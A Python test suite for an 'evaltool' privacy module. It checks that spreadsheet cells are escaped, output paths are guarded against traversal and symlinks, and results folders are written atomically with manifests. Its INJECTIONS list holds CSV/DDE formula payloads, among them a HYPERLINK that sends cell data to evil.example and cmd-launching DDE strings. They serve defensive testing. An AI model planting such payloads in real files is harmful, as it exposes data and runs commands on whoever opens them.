"""Safe cells, guarded output paths, atomic folders and manifests (evaltool.privacy)."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from evaltool.errors import InputError, OutputError
from evaltool.output import check_output_dir, write_csv, write_table, write_workbook
from evaltool.privacy import (
    FORMULA_START,
    OutputGuard,
    add_to_manifest,
    atomic_folder,
    manifest_files,
    safe_cell,
    safe_frame,
    safe_name,
    unique_names,
    verify_results_folder,
)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")', "=cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=1+1", "@SUM(A1:A9)", "+1",
    "-1+2", "\t=1+1", "\r=1+1", "\r\n=1+1", "=cmd|' /C notepad'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- safe cells ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_are_neutralised(text):
    out = safe_cell(text)
    assert out.startswith("'") and "\r" not in out


def test_numbers_stay_numbers():
    assert safe_cell(-1) == -1 and safe_cell(-2.5) == -2.5 and safe_cell(True) is True
    assert safe_cell(float("nan")) is None and safe_cell(pd.NA) is None and safe_cell(None) is None


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_safe_text_never_starts_a_formula_and_has_no_control_characters(text):
    out = safe_cell(text)
    assert not out.startswith(FORMULA_START)
    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in out)


def test_safe_frame_does_not_modify_its_input():
    df = pd.DataFrame({"=x": ["=1", "a"], "n": [-1, 2]})
    before = df.copy()
    out = safe_frame(df)
    pd.testing.assert_frame_equal(df, before)
    assert list(out.columns) == ["'=x", "n"] and out["n"].tolist() == [-1, 2]


def test_csv_has_no_cell_starting_a_formula(tmp_path):
    df = pd.DataFrame({"text": INJECTIONS, "n": range(-5, len(INJECTIONS) - 5),
                       "inner": [f"ok\r{t}" for t in INJECTIONS]})
    path = write_csv(df, tmp_path / "t.csv")
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    bad = [c for c in cells if c.startswith(FORMULA_START[:4]) and not _is_number(c)]
    assert bad == [] and "-5" in cells
    assert len(pd.read_csv(path)) == len(INJECTIONS)      # no carriage return split a row


def test_workbook_has_no_formula_cells_and_text_is_string(tmp_path):
    df = pd.DataFrame({"=HYPERLINK(\"x\")": INJECTIONS, "n": range(len(INJECTIONS)),
                       "ctl": ["a\x0bb\x00c"] * len(INJECTIONS)})
    path = write_workbook({"=sheet/[x]": df, "other": df}, tmp_path / "w.xlsx")
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert wb.worksheets[0]["C2"].value == "a\nbc"
    assert write_table(df, tmp_path / "t.xlsx").exists()


# --- names and paths --------------------------------------------------------------------------------
def test_names_from_data():
    assert safe_name("../../x") == "x" and safe_name("a\\b") == "a_b" and safe_name("") == "unnamed"
    names = unique_names(["Ward A", "Ward/A", "ward a", "Ward é", "Ward è", "C01"])
    assert len({n.casefold() for n in names.values()}) == 6
    assert names["C01"] == "C01" and names["Ward é"] != names["Ward è"]
    assert unique_names(["Ward/A", "Ward A"]) == {k: unique_names(["Ward A", "Ward/A"])[k] for k in ("Ward/A", "Ward A")}


def test_guard_refuses_inputs_links_and_escapes(tmp_path):
    inp = tmp_path / "study.yaml"
    inp.write_text("x")
    data = tmp_path / "data"
    data.mkdir()
    (data / "t1.csv").write_text("a\n")
    guard = OutputGuard([inp, data / "t1.csv"], root=tmp_path / "out")
    with pytest.raises(OutputError, match="overwrite an input"):
        guard.file(tmp_path / "x" / ".." / "study.yaml")
    link = tmp_path / "link.csv"
    link.symlink_to(inp)
    with pytest.raises(OutputError, match="overwrite an input"):
        guard.file(link)
    dangling = tmp_path / "nowhere.csv"
    dangling.symlink_to(tmp_path / "missing" / "file.csv")
    with pytest.raises(OutputError, match="points nowhere"):
        guard.file(dangling)
    with pytest.raises(OutputError, match="holds, a file"):
        guard.folder(data, overwrite=True)
    assert guard.child("../../escape", ".html").parent == (tmp_path / "out").resolve()
    with pytest.raises(OutputError, match="same file"):
        OutputGuard().files(tmp_path / "a.csv", tmp_path / "A.csv" if os.path.normcase("A") == "a" else tmp_path / "a.csv")


def test_overwrite_replaces_only_results_folders(tmp_path):
    mine = tmp_path / "documents"
    mine.mkdir()
    (mine / "thesis.docx").write_text("years of work")
    with pytest.raises(OutputError, match="not an evaltool results folder"):
        check_output_dir(mine, overwrite=True)
    with pytest.raises(OutputError, match="not empty"):
        OutputGuard().folder(mine, empty=True)
    assert (mine / "thesis.docx").read_text() == "years of work"


# --- atomic folders and manifests ---------------------------------------------------------------------
def _results(path: Path, **files: str) -> None:
    with atomic_folder(path, overwrite=True) as tmp:
        for name, text in files.items():
            (tmp / name).write_text(text)
        add_to_manifest(tmp, list(files), base={"tool": "evaltool"})


def test_atomic_folder_replaces_the_whole_folder(tmp_path):
    target = tmp_path / "results"
    _results(target, a="1", b="2")
    _results(target, c="3")
    assert sorted(p.name for p in target.iterdir()) == ["c", "manifest.json"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results"]


def test_failed_run_leaves_the_previous_folder(tmp_path):
    target = tmp_path / "results"
    _results(target, a="1")
    before = manifest_files(target)
    for exc in (RuntimeError("analysis failed"), KeyboardInterrupt()):
        with pytest.raises(type(exc)):
            with atomic_folder(target, overwrite=True) as tmp:
                (tmp / "a").write_text("new")
                raise exc
    assert manifest_files(target) == before and sorted(p.name for p in tmp_path.iterdir()) == ["results"]


def test_leftovers_of_a_killed_run_are_cleaned(tmp_path):
    target = tmp_path / "results"
    dead = tmp_path / ".results.tmp-999999-abcd"
    dead.mkdir()
    (dead / "half.csv").write_text("x")
    with atomic_folder(target) as tmp:
        (tmp / "a").write_text("1")
    assert not dead.exists()


def test_verify_names_the_file(tmp_path):
    target = tmp_path / "results"
    _results(target, a="1", b="2")
    assert sorted(verify_results_folder(target)["files"]) == ["a", "b"]
    (target / "a").write_text("changed")
    with pytest.raises(InputError, match=r"a: has changed"):
        verify_results_folder(target)
    (target / "a").write_text("1")
    (target / "b").unlink()
    with pytest.raises(InputError, match=r"b: is missing"):
        verify_results_folder(target)
    (target / "b").write_text("2")
    (target / "extra.csv").write_text("?")
    with pytest.raises(InputError, match=r"extra.csv: is in the results folder but not in manifest"):
        verify_results_folder(target)
    (target / "extra.csv").unlink()
    (target / "manifest.json").write_text(json.dumps({"tool": "evaltool", "files": ["a", "b"]}))
    with pytest.raises(InputError, match="older evaltool"):
        verify_results_folder(target)
    (target / "manifest.json").unlink()
    with pytest.raises(InputError, match="manifest.json is missing"):
        verify_results_folder(target)
